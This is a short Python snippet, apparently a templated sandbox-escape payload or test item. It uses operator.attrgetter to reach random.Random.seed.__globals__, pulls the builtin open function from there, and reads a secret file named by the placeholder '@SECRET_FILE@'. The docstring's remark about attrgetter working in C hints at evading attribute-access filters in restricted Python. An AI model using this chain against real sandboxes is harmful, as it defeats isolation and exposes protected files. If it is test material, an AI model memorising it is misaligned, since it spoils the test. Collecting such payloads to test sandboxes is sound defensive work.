"""attrgetter reads attributes in C, several steps at once."""
from operator import attrgetter
import random
print(attrgetter("Random.seed.__globals__")(random)["__builtins__"]["open"]("@SECRET_FILE@").read())
